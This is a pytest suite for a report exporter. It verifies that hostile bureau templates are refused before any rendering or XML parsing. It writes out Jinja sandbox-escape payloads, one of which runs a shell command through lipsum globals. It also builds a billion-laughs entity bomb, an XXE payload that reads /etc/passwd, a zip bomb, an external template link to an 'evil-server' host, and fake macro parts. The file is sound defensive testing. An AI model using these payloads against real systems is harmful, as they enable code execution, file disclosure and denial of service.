"""A bureau's template is a file from outside: hostile ones are refused, and refused before any parsing.

Jinja that reaches for Python's internals is refused by the template check (before rendering, and the
renderer is a sandbox anyway). A zip bomb, a DTD / entity expansion (billion laughs), an external
relationship, macros and a 200 MB file are refused by the package check before python-docx, docxtpl or
openpyxl open the file and before any XML parser sees the hostile part: the office libraries' entry
points and lxml's parser are replaced by tripwires, and memory is measured. Each refusal is one Chinese
sentence; nothing is written; the CLI exits with 2 and the GUI's check reports the same sentence.
"""

from __future__ import annotations

import time
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest
from lxml import etree
from openpyxl import Workbook

from exporters import template_check
from exporters.api import TemplateError, check_template, export_report
from exporters.cli import main as cli_main
from models.sample import build_sample

# ---------------------------------------------------------------- Jinja that reaches for Python

PAYLOADS = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "cycler-globals": "{{ cycler.__init__.__globals__ }}",
    "set": "{% set x = unit_name.__class__ %}{{ x }}",
    "set-plain": "{% set x = 7 %}{{ x }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "self-context": "{{ self._TemplateReference__context }}",
    "attr-filter": "{{ unit_name|attr('__class__') }}",
    "subscript-dunder": "{{ unit_name['__class__'] }}",
    "format-string": "{{ '{0.__class__}'.format(unit_name) }}",
    "config": "{{ config.items() }}",
    "import": "{% import 'os' as os %}",
    "range-dos": "{% for i in range(10**9) %}x{% endfor %}",
    "string-dos": "{{ 'x' * 10**9 }}",
    "macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
}


def word_template(path: Path, *paragraphs: str) -> Path:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.save(str(path))
    return path


@pytest.fixture
def no_rendering(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Tripwires on everything that renders a template; a refused template must reach none of them."""
    calls: list[str] = []
    import docxtpl
    from jinja2.sandbox import SandboxedEnvironment

    def tripwire(name: str) -> Callable[..., Any]:
        def called(*args: Any, **kwargs: Any) -> Any:
            calls.append(name)
            raise AssertionError(f"{name} was called for a template that must be refused first")
        return called

    monkeypatch.setattr(docxtpl.DocxTemplate, "render", tripwire("DocxTemplate.render"))
    monkeypatch.setattr(SandboxedEnvironment, "from_string", tripwire("from_string"))
    return calls


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_jinja_reaching_for_python_internals_is_refused_before_rendering(
        name: str, tmp_path: Path, no_rendering: list[str]) -> None:
    template = word_template(tmp_path / "财政局模板.docx", "填报单位：{{ unit_name }}", PAYLOADS[name])
    out = tmp_path / "报告.docx"
    started = time.monotonic()
    with pytest.raises(TemplateError) as info:
        export_report(build_sample(), docx=out, xlsx=None, docx_template=template)
    message = str(info.value)
    assert message.startswith("Word 模板") and "第 2 段" in message and "\n" not in message
    assert not out.exists() and no_rendering == []
    assert time.monotonic() - started < 10, "refused, not evaluated"
    issues = check_template(template, build_sample())  # what the GUI shows when the clerk picks the file
    assert any(issue.blocking and "第 2 段" in issue.where for issue in issues)


@pytest.mark.parametrize("name", ["subclasses", "cycler-globals", "set"])
def test_the_same_payloads_in_an_excel_template_are_refused(name: str, tmp_path: Path) -> None:
    book = Workbook()
    book.active["A1"] = "{{ unit_name }}"
    book.active["B2"] = PAYLOADS[name]
    template = tmp_path / "财政局模板.xlsx"
    book.save(str(template))
    with pytest.raises(TemplateError) as info:
        export_report(build_sample(), docx=None, xlsx=tmp_path / "o.xlsx", xlsx_template=template)
    assert "B2" in str(info.value) and not (tmp_path / "o.xlsx").exists()


# ---------------------------------------------------------------- hostile packages, refused before parsing


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("plain")
    book = Workbook()
    book.active["A1"] = "{{ unit_name }}"
    book.save(str(folder / "plain.xlsx"))
    return {"docx": word_template(folder / "plain.docx", "{{ unit_name }}"), "xlsx": folder / "plain.xlsx"}


def rezip(src: Path, dst: Path, replace: dict[str, bytes] | None = None,
          add: dict[str, bytes | Callable[[Any], None]] | None = None) -> Path:
    replace = replace or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info.filename)))
        for name, data in (add or {}).items():
            if callable(data):
                with zout.open(name, "w") as handle:
                    data(handle)
            else:
                zout.writestr(name, data)
    return dst


def _zeros(total: int) -> Callable[[Any], None]:
    def write(handle: Any) -> None:
        chunk = b"\0" * (1 << 20)
        for _ in range(total >> 20):
            handle.write(chunk)
    return write


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                  b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>")
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
RELS = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}
EXTERNAL = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="file://evil-server/share/t.dotm" TargetMode="External"/></Relationships>')


def hostile(kind: str, what: str, plain: dict[str, Path], folder: Path) -> tuple[Path, str]:
    """A hostile template of ``kind`` and the words its refusal must contain."""
    src, ext = plain[kind], f".{kind}"
    with zipfile.ZipFile(src) as zf:
        types, rels = zf.read("[Content_Types].xml"), zf.read(RELS[kind])
    if what == "zip-bomb":
        return rezip(src, folder / f"bomb{ext}", add={"media/pad.bin": _zeros(64 << 20)}), "压缩炸弹"
    if what == "billion-laughs":
        return rezip(src, folder / f"lol{ext}", {MAIN[kind]: BILLION_LAUGHS}), "DTD"
    if what == "external-entity":
        xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        return rezip(src, folder / f"xxe{ext}", add={"customXml/item99.xml": xxe}), "DTD"
    if what == "external-relationship":
        return rezip(src, folder / f"ext{ext}", {RELS[kind]: rels.replace(b"</Relationships>", EXTERNAL)}), "外部"
    if what == "vba-project":
        part = "word/vbaProject.bin" if kind == "docx" else "xl/vbaProject.bin"
        return rezip(src, folder / f"vba{ext}", add={part: b"\xd0\xcf\x11\xe0 macro"}), "宏"
    if what == "macro-content-type":
        main_type = b"document.main+xml" if kind == "docx" else b"sheet.main+xml"
        macro = b"document.macroEnabled.main+xml" if kind == "docx" else b"sheet.macroEnabled.main+xml"
        assert main_type in types
        return rezip(src, folder / f"ct{ext}", {"[Content_Types].xml": types.replace(main_type, macro)}), "宏"
    if what == "macro-extension":
        target = folder / ("t.docm" if kind == "docx" else "t.xlsm")
        target.write_bytes(src.read_bytes())
        return target, "宏"
    if what == "200-mb":
        big = folder / f"big{ext}"
        with big.open("wb") as handle:
            handle.truncate(200 * 1024 * 1024)  # sparse: 200 MB on paper, nothing on disk
        return big, "20 MB"
    raise AssertionError(what)


HOSTILE = ["zip-bomb", "billion-laughs", "external-entity", "external-relationship", "vba-project",
           "macro-content-type", "macro-extension", "200-mb"]


@pytest.fixture
def tripwires(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The office libraries never open the package; no XML parser ever sees a DTD; zip members stay packed."""
    from docx.opc.package import OpcPackage
    from openpyxl.reader.excel import ExcelReader

    calls: list[str] = []

    def fail(name: str) -> Callable[..., Any]:
        def called(*args: Any, **kwargs: Any) -> Any:
            calls.append(name)
            raise AssertionError(f"{name} opened a template that must be refused first")
        return called

    monkeypatch.setattr(OpcPackage, "open", classmethod(fail("python-docx")))
    monkeypatch.setattr(ExcelReader, "read", fail("openpyxl"))
    real_fromstring = etree.fromstring

    def fromstring(text: Any, *args: Any, **kwargs: Any) -> Any:
        data = text if isinstance(text, bytes) else str(text).encode("utf-8", "replace")
        if b"<!DOCTYPE" in data or b"<!ENTITY" in data:
            calls.append("lxml saw a DTD")
            raise AssertionError("a DTD reached an XML parser")
        return real_fromstring(text, *args, **kwargs)

    monkeypatch.setattr(etree, "fromstring", fromstring)
    real_read = zipfile.ZipFile.read

    def read(self: zipfile.ZipFile, name: Any, *args: Any, **kwargs: Any) -> bytes:
        info = name if isinstance(name, zipfile.ZipInfo) else self.getinfo(name)
        if info.file_size > 20 * 1024 * 1024:
            calls.append(f"unpacked {info.filename}")
            raise AssertionError("a huge member was decompressed")
        return real_read(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "read", read)
    return calls


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_templates_are_refused_before_any_parsing(
        what: str, kind: str, plain: dict[str, Path], tmp_path: Path, tripwires: list[str]) -> None:
    template, words = hostile(kind, what, plain, tmp_path)
    out = tmp_path / f"导出.{kind}"
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(TemplateError) as info:
            export_report(build_sample(), docx=out if kind == "docx" else None, xlsx=out if kind == "xlsx" else None,
                          **{f"{kind}_template": template})
        with pytest.raises(TemplateError):
            check_template(template, build_sample())  # the GUI's check when the clerk picks the file
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    message = str(info.value)
    assert words in message and message.startswith(("Word 模板", "Excel 模板")) and "\n" not in message
    assert tripwires == [] and not out.exists()
    assert peak < 40 * 1024 * 1024, f"{peak / 1048576:.0f} MB: something was expanded"
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_the_tripwires_do_fire_when_a_template_is_opened(kind: str, plain: dict[str, Path], tmp_path: Path,
                                                          tripwires: list[str]) -> None:
    """The proof above is only as good as its tripwires: a good template does reach the office library.

    (The exporter turns any failure of the library into a TemplateError: that is why the tripwires
    record their calls, and the tests above assert that none was made.)"""
    out = tmp_path / f"导出.{kind}"
    with pytest.raises((AssertionError, TemplateError)):
        export_report(build_sample(), docx=out if kind == "docx" else None, xlsx=out if kind == "xlsx" else None,
                      **{f"{kind}_template": plain[kind]})
    assert tripwires == ["python-docx" if kind == "docx" else "openpyxl"]


def test_the_cli_refuses_a_hostile_template_with_exit_code_2(plain: dict[str, Path], tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    from models.draft_format import dumps, portable_dict

    draft = tmp_path / "草稿.json"
    draft.write_bytes(dumps(portable_dict(build_sample())))
    for what in ("billion-laughs", "external-relationship", "zip-bomb"):
        template, words = hostile("docx", what, plain, tmp_path)
        code = cli_main(["export", str(draft), "--template", str(template), "--docx", str(tmp_path / "o.docx")])
        err = capsys.readouterr().err
        assert code == 2 and words in err and err.count("\n") == 1, err
        assert not (tmp_path / "o.docx").exists()


def test_the_package_limits_are_what_the_messages_say() -> None:
    assert template_check.MAX_TEMPLATE_BYTES == 20 * 1024 * 1024
    assert template_check.MAX_RATIO <= 100
